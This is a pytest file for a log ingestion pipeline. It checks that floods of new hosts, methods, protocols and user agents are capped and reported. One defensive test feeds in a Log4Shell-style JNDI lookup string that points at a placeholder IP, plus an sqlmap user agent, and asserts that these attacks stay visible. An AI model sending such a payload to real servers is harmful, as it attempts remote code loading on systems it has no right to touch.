"""Clients may send a new host, method or agent with every request: the lake does not grow by it."""

import datetime as dt
from pathlib import Path
from typing import Any

import pytest

from pipelines import lake
from pipelines.ingest.new_values import OTHER
from pipelines.ingest.result import IngestResult
from pipelines.night import stages
from pipelines.paths import Home
from pipelines.report.limits_passed import LimitPassed, limits_passed
from pipelines.settings.load import load
from pipelines.settings.model import Settings

_NOW = dt.datetime(2026, 11, 20, 2, tzinfo=dt.UTC)
_SETTINGS = """
limits: {{new_hosts_per_day: {limit}, new_methods_per_day: {limit}, new_agents_per_day: {limit}}}
sites:
  - {{id: main, group: main, domains: [main.example, also.example], logs: ["main/*.log"],
     format: vhost_combined}}
"""


@pytest.fixture
def home(tmp_path: Path) -> Home:
    """A working folder with a landing folder."""
    (tmp_path / "logs" / "main").mkdir(parents=True)
    return Home(tmp_path)


def _line(host: str = "main.example", method: str = "GET", agent: str = "Mozilla/5.0") -> str:
    return (
        f"{host}:443 192.0.2.1 - - [19/Nov/2026:09:00:00 +0900]"
        f' "{method} / HTTP/1.1" 200 5 "-" "{agent}"\n'
    )


def _ingest(home: Home, lines: dict[str, list[str]], limit: int = 50) -> IngestResult:
    for name, text in lines.items():
        (home.logs / "main" / f"{name}.log").write_text("".join(text))
    return stages.ingest(_settings(home, limit), home, clock=lambda: _NOW)


def _settings(home: Home, limit: int = 50) -> Settings:
    path = home.root / "mimamori.yaml"
    path.write_text(_SETTINGS.format(limit=limit))
    return load(path)


def _rows(home: Home, query: str) -> list[tuple[Any, ...]]:
    with lake.open_reader(home, "Asia/Tokyo") as con:
        return con.execute(query).fetchall()


def _passed(home: Home) -> tuple[LimitPassed, ...]:
    with lake.open_reader(home, "Asia/Tokyo") as con:
        return limits_passed(con, _NOW)


def _many(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let a file of thousands of lines be many chunks, as one of millions is."""
    monkeypatch.setattr("pipelines.ingest.reader.LineReader.MAX_BLOCK_LINES", 250)
    monkeypatch.setattr("pipelines.ingest.gather.CHUNK_BYTES", 1)
    monkeypatch.setattr("pipelines.ingest.store._FLUSH_ROWS", 250)


@pytest.mark.further
def test_hosts_beyond_the_bound_are_one(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """The site's own hosts and those the lake knows keep their names, whatever came before them."""
    _many(monkeypatch)
    _ingest(home, {"a": [_line("known.example")]})
    flood = [_line(f"h{number}.example") for number in range(3000)]
    last = [_line("also.example"), _line("known.example")]
    result = _ingest(home, {"b": flood + last})
    assert result.records == 3002
    hosts = dict(
        _rows(home, "select site_domain, count(*) from lake.access_log group by site_domain")
    )
    assert (hosts["also.example"], hosts["known.example"]) == (1, 2)
    assert len(hosts) < 600
    assert hosts[OTHER] == 3003 - sum(count for host, count in hosts.items() if host != OTHER)
    (passed,) = _passed(home)
    assert (passed.limit, passed.lines, passed.allowed) == ("new_hosts_per_day", hosts[OTHER], 50)
    assert passed.examples == ("main 2026-11-19",)


@pytest.mark.further
def test_methods_beyond_the_bound_are_one(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """Those of HTTP are never folded."""
    _many(monkeypatch)
    flood = [_line(method=f"X{number}") for number in range(1500)]
    _ingest(home, {"a": [*flood, _line(method="DELETE")]})
    methods = dict(_rows(home, "select method, count(*) from lake.access_log group by method"))
    assert methods["DELETE"] == 1
    assert len(methods) < 600
    assert sum(methods.values()) == 1501
    assert [one.limit for one in _passed(home)] == ["new_methods_per_day"]


@pytest.mark.further
def test_protocols_and_combinations_are_bounded_too(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What clients may write into a profile does not multiply."""
    _many(monkeypatch)
    protocols = [_line().replace("HTTP/1.1", f"HTTP/1.1{number}") for number in range(1500)]
    result = _ingest(home, {"a": protocols})
    assert result.records == 1500
    ((count,),) = _rows(home, "select count(distinct protocol) from lake.request_profile")
    assert count < 600
    crossed = [
        _line(f"h{host}.example", f"X{method}") for method in range(40) for host in range(40)
    ]
    _ingest(home, {"b": [*crossed, _line("also.example", "PUT")]})
    assert _rows(home, "select count(*) from lake.access_log") == [(3101,)]
    ((profiles, folded),) = _rows(
        home,
        "select count(*), (select count(*) from lake.access_log where site_domain = 'also.example'"
        " and method = 'PUT') from lake.request_profile where protocol = 'HTTP/1.1'",
    )
    assert (profiles < 1000, folded) == (True, 1)


def test_one_chunk_of_methods_is_bounded_too(home: Home) -> None:
    """Not only what comes after others is counted."""
    _ingest(home, {"a": [_line(method=f"X{number}") for number in range(500)]})
    ((methods,),) = _rows(home, "select count(distinct method) from lake.request_profile")
    assert methods == 50 + 1


@pytest.mark.further
@pytest.mark.parametrize("form", ["plain", "careful"])
def test_agents_beyond_the_bound_are_one_but_no_attack_hides_behind_them(
    home: Home, monkeypatch: pytest.MonkeyPatch, form: str
) -> None:
    """Whoever fills the day and then attacks in an agent is seen; no record loses its agent."""
    _many(monkeypatch)
    rest = ' \\"x\\"' if form == "careful" else ""
    flood = [_line(agent=f"Mozilla/5.0 (X{number}){rest}") for number in range(4000)]
    attacks = [_line(agent="${jndi:ldap://203.0.113.5/a}"), _line(agent="sqlmap/1.8.4#stable")]
    repeated = [_line(agent="Mozilla/5.0 (X1)" + rest), _line(agent="Mozilla/5.0 (X3999)" + rest)]
    _ingest(home, {"a": [_line(), *flood, *attacks, *repeated]})
    assert _rows(
        home,
        "select count(*), count(user_agent) from lake.access_log",
    ) == [(4005, 4005)]
    agents = dict(_rows(home, "select user_agent, count(*) from lake.access_log group by all"))
    assert agents["${jndi:ldap://203.0.113.5/a}"] == agents["sqlmap/1.8.4#stable"] == 1
    ((written, referred),) = _rows(
        home,
        "select count(*), count(*) filter (where agent_id in (select agent_id from"
        " lake.request_fact)) from lake.agent",
    )
    assert written == referred == len(agents)
    assert written < 2000
    (passed,) = _passed(home)
    assert (passed.limit, passed.lines) == ("new_agents_per_day", agents[OTHER])


def test_an_ordinary_day_folds_nothing(home: Home) -> None:
    """As many as the bound are kept as they came."""
    lines = [_line(f"h{n}.example", f"X{n}", f"Mozilla/5.0 (X{n})") for n in range(50)]
    _ingest(home, {"a": lines})
    counts = "count(distinct site_domain), count(distinct method), count(distinct user_agent)"
    assert _rows(home, f"select {counts} from lake.access_log") == [(50, 50, 50)]
    assert _passed(home) == ()


@pytest.mark.further
def test_a_batch_that_fails_is_counted_anew(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """After a rollback what was met counts for nothing, and no agent is lost."""
    _many(monkeypatch)
    broken: list[bool] = []

    def _fail_once(*_args: object) -> None:
        if not broken:
            broken.append(True)
            raise ValueError

    monkeypatch.setattr("pipelines.ingest.run.drop_duplicates", _fail_once)
    files = {name: [_line(agent=f"Mozilla/5.0 ({name}{n})") for n in range(800)] for name in "ab"}
    result = _ingest(home, files)
    assert (result.records, broken) == (1600, [True])
    assert _rows(home, "select count(*), count(user_agent) from lake.access_log") == [(1600, 1600)]
    agents = dict(_rows(home, "select user_agent, count(*) from lake.access_log group by all"))
    assert [one.lines for one in _passed(home)] == [agents[OTHER]]
